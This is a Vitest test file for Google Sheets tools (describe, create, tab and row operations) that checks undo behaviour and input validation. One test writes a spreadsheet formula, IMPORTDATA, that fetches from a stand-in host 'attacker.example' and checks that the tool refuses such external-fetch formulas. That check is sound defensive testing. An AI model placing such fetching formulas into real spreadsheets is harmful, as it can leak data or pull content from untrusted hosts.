import { describe, expect, test } from "vitest";
import * as z from "zod";
import { createSpreadsheet } from "../../../tools/sheets/create.js";
import { updateRows } from "../../../tools/sheets/rows.js";
import { describeSpreadsheet } from "../../../tools/sheets/spreadsheet.js";
import { updateTabs } from "../../../tools/sheets/tabs.js";
import { google, withGoogle } from "../context.js";
import { fileNamed } from "../drive/world.js";
import { budget, run, sheetOf, stateOf, undoAll, withTabs } from "./world.js";

withGoogle();

const titles = (id = budget()) => sheetOf(id).tabs.map(({ title }) => title);
/** What the cells of a tab show, as far as they hold something. */
const column = (letter: number, tab = 0, id = budget()) =>
  sheetOf(id).tabs[tab]?.rows.map((row) => row?.[letter]?.value);

describe("sheets_get_spreadsheet", () => {
  test("tells where the data is, in two requests beside one for who sees it", async () => {
    const { data, text, called } = await run(describeSpreadsheet, {
      spreadsheet_id: budget(),
    });
    expect(called).toHaveLength(3);
    expect(data).toMatchObject({
      title: "Budget 2026",
      tabs: [
        {
          name: "Summary",
          data: "A1:D7",
          header: {
            row: 1,
            cells: ["Department", "Plan", "Actual", "Difference"],
          },
          frozen_rows: 1,
        },
        { name: "Q1 '26 details", data: "A1:E6" },
        { name: "Rates", hidden: true },
      ],
      named_ranges: [{ name: "Totals", range: "Summary!A7:D7" }],
    });
    expect(text).toContain("Row 1: Department | Plan | Actual | Difference");
  });

  test("finds a table that begins further down, and says that a tab is empty", async () => {
    withTabs({
      Low: [[], [], ["", "", "Name", "Age"], ["", "", "Ann", "5"]],
      Empty: [],
    });
    const { data, text } = await run(describeSpreadsheet, {
      spreadsheet_id: budget(),
    });
    expect(data).toMatchObject({
      tabs: [
        { data: "C3:D4", header: { row: 3, cells: ["Name", "Age"] } },
        { name: "Empty" },
      ],
    });
    expect(text).toContain("Empty.");
  });
});

describe("sheets_create_spreadsheet", () => {
  const created = z.object({
    spreadsheet: z.object({ id: z.string() }),
    folder: z.string(),
    notes: z.array(z.string()),
  });

  test("makes tabs and types their rows", async () => {
    const { data, called } = await run(createSpreadsheet, {
      title: "Prices",
      tabs: [
        {
          title: "List",
          rows: [
            ["item", "price", "on"],
            ["kit", 112.5, "2026-01-14"],
            ["sum", "=B2*2"],
          ],
        },
        { title: "Bo's notes" },
      ],
    });
    expect(called).toEqual([
      "sheets.spreadsheets.create",
      "sheets.spreadsheets.values.batchUpdate",
    ]);
    const { spreadsheet, notes } = created.parse(data);
    expect(notes).toEqual([]);
    expect(titles(spreadsheet.id)).toEqual(["List", "Bo's notes"]);
    expect(column(1, 0, spreadsheet.id)).toEqual(["price", 112.5, 225]);
    expect(column(2, 0, spreadsheet.id)?.[1]).toBeTypeOf("number");
  });

  test("puts it into a folder, and asks leave where others see it", async () => {
    const folder = fileNamed("Finance");
    const { data } = await run(createSpreadsheet, {
      title: "Prices",
      folder_id: folder.id,
    });
    const { spreadsheet, folder: name, notes } = created.parse(data);
    expect(notes).toEqual([]);
    expect(name).toBe("Finance");
    expect(google.world.drive.files.get(spreadsheet.id)?.parentId).toBe(
      folder.id,
    );
  });

  test("refuses formulas that fetch unless they are allowed [D-15]", async () => {
    const tabs = [
      { title: "T", rows: [['=IMPORTDATA("https://attacker.example/x")']] },
    ];
    await expect(run(createSpreadsheet, { title: "P", tabs })).rejects.toThrow(
      "IMPORTDATA",
    );
    expect(google.ledger).toEqual([]);
    await run(createSpreadsheet, { title: "P", tabs, allow_external: true });
  });

  test("names the file when its rows could not be written", async () => {
    google.fault({
      on: "sheets.spreadsheets.values.batchUpdate",
      kind: "status",
      status: 503,
    });
    const { data } = await run(createSpreadsheet, {
      title: "P",
      tabs: [{ title: "T", rows: [["a"]] }],
    });
    expect(created.parse(data).notes[0]).toContain(
      "The rows could not be written",
    );
  });

  test("works with drive.file and with spreadsheets alone, and then into no folder", async () => {
    for (const scope of ["drive.file", "spreadsheets"])
      await run(createSpreadsheet, { title: "P" }, [scope]);
    const input = { title: "P", folder_id: fileNamed("Finance").id };
    await expect(
      run(createSpreadsheet, input, ["spreadsheets"]),
    ).rejects.toThrow("folders");
  });
});

describe("sheets_update_tabs", () => {
  const act = (input: Record<string, unknown>) =>
    run(updateTabs, { spreadsheet_id: budget(), ...input });

  test.each([
    [
      { action: "add", title: "New", position: 1 },
      ["New", "Summary", "Q1 '26 details", "Rates"],
    ],
    [
      { action: "rename", tab: "Rates", title: "Kurse" },
      ["Summary", "Q1 '26 details", "Kurse"],
    ],
    [
      { action: "rename", tab: "Rates", title: "rates" },
      ["Summary", "Q1 '26 details", "rates"],
    ],
    [
      { action: "move", tab: "Summary", position: 3 },
      ["Q1 '26 details", "Rates", "Summary"],
    ],
    [
      { action: "move", tab: "90311", position: 1 },
      ["Rates", "Summary", "Q1 '26 details"],
    ],
    [
      { action: "duplicate", tab: "Summary", title: "Copy" },
      ["Summary", "Copy", "Q1 '26 details", "Rates"],
    ],
    [{ action: "delete", tab: "Q1 '26 details" }, ["Summary", "Rates"]],
  ])(
    "does %j, and its undo brings back what was there",
    async (input, expected) => {
      const before = stateOf(budget());
      const { data, text } = await act(input);
      expect(titles()).toEqual(expected);
      expect(text).toContain("To undo: ");
      await undoAll(data);
      expect(sheetOf(budget()).tabs).toEqual(before.tabs);
    },
  );

  test("freezes, hides and shows, and takes it back", async () => {
    const before = stateOf(budget());
    for (const input of [
      { action: "freeze", tab: "Summary", rows: 2, columns: 1 },
      { action: "hide", tab: "Summary" },
      { action: "show", tab: "Rates" },
    ]) {
      const { data } = await act(input);
      expect(sheetOf(budget()).tabs).not.toEqual(before.tabs);
      await undoAll(data);
      expect(sheetOf(budget()).tabs).toEqual(before.tabs);
    }
  });

  test("copies a tab into another file, and takes it back", async () => {
    const other = fileNamed("Orders 2026").id;
    const { data } = await act({
      action: "copy",
      tab: "Rates",
      to_spreadsheet_id: other,
    });
    expect(titles(other)).toEqual(["Orders", "Copy of Rates"]);
    await undoAll(data);
    expect(titles(other)).toEqual(["Orders"]);
  });

  test("says that a tab is too large to be brought back before nothing brings it back", async () => {
    const rows = Array.from({ length: 900 }, (_, row) => [
      `row ${row}`,
      "x".repeat(50),
    ]);
    withTabs({ A: [["a"]], Big: rows });
    const { data, text } = await act({ action: "delete", tab: "Big" });
    expect(data.undo).toEqual([]);
    expect(text).toContain("No undo");
  });

  test.each([
    [{ action: "rename", tab: "Summary" }, "needs title"],
    [{ action: "delete" }, "needs tab"],
    [{ action: "delete", tab: "Nope" }, 'Its tabs are: "Summary"'],
    [{ action: "add", title: "summary" }, "already"],
    [{ action: "duplicate", tab: "Summary", title: "Summary" }, "already"],
  ])("refuses %j before anything is written", async (input, words) => {
    await expect(act(input)).rejects.toMatchObject({
      text: expect.stringContaining(words),
    });
    expect(google.ledger.filter(({ verb }) => verb !== "GET")).toEqual([]);
  });
});

describe("sheets_update_rows", () => {
  const act = (input: Record<string, unknown>) =>
    run(updateRows, { spreadsheet_id: budget(), ...input });
  const names = ["Salaries", "Marketing", "Travel", "Software", "Office"];

  test.each([
    [
      { action: "insert", range: "Summary!3:4" },
      ["Department", "Salaries", undefined, undefined, "Marketing"],
    ],
    [
      { action: "delete", range: "Summary!2:3" },
      ["Department", "Travel", "Software", "Office", "Total"],
    ],
    [
      { action: "move", range: "Summary!2:3", before: "6" },
      ["Department", "Travel", "Software", "Salaries", "Marketing"],
    ],
    [
      { action: "move", range: "Summary!5:6", before: "2" },
      ["Department", "Software", "Office", "Salaries", "Marketing"],
    ],
    [
      { action: "sort", range: "Summary!A2:D6", by: [{ column: "A" }] },
      ["Department", "Marketing", "Office", "Salaries", "Software"],
    ],
    [
      {
        action: "sort",
        range: "Summary!A1:D6",
        header: true,
        by: [{ column: "b", descending: true }],
      },
      ["Department", "Salaries", "Marketing", "Office", "Software"],
    ],
  ])("does %j, and its undo brings the cells back", async (input, expected) => {
    const before = stateOf(budget());
    const { data } = await act(input);
    expect(column(0)?.slice(0, 5)).toEqual(expected);
    await undoAll(data);
    expect(column(0)?.slice(1, 6)).toEqual(names);
    expect(column(1)).toEqual(
      before.tabs[0]?.rows.map((row) => row?.[1]?.value),
    );
    expect(sheetOf(budget()).tabs[0]?.rowCount).toBe(before.tabs[0]?.rowCount);
  });

  test("does the same with columns", async () => {
    const { data } = await act({
      action: "move",
      range: "Summary!B:B",
      before: "D",
    });
    expect(
      sheetOf(budget()).tabs[0]?.rows[0]?.map((cell) => cell?.value),
    ).toEqual(["Department", "Actual", "Plan", "Difference"]);
    await undoAll(data);
    expect(
      sheetOf(budget()).tabs[0]?.rows[0]?.map((cell) => cell?.value),
    ).toEqual(["Department", "Plan", "Actual", "Difference"]);
  });

  test("adds rows behind the last one", async () => {
    await act({ action: "insert", range: "Summary!1001:1010" });
    expect(sheetOf(budget()).tabs[0]?.rowCount).toBe(1_010);
  });

  test.each([
    [{ action: "delete", range: "Summary!A1:B2" }, "whole rows or columns"],
    [{ action: "delete", range: "Summary!1:1000" }, "keeps at least one"],
    [{ action: "delete", range: "Summary!990:2000" }, "not all of"],
    [{ action: "insert", range: "Summary!1500:1501" }, "1000 rows"],
    [{ action: "move", range: "Summary!2:3" }, "needs the row"],
    [{ action: "move", range: "Summary!2:3", before: "C" }, "needs the row"],
    [{ action: "move", range: "Summary!2:4", before: "3" }, "there already"],
    [{ action: "sort", range: "Summary!A2:C6" }, "needs the columns"],
    [
      { action: "sort", range: "Summary!A2:C6", by: [{ column: "F" }] },
      "none of",
    ],
  ])("refuses %j before anything is written", async (input, words) => {
    await expect(act(input)).rejects.toThrow(words);
    expect(google.ledger.filter(({ verb }) => verb !== "GET")).toEqual([]);
  });
});
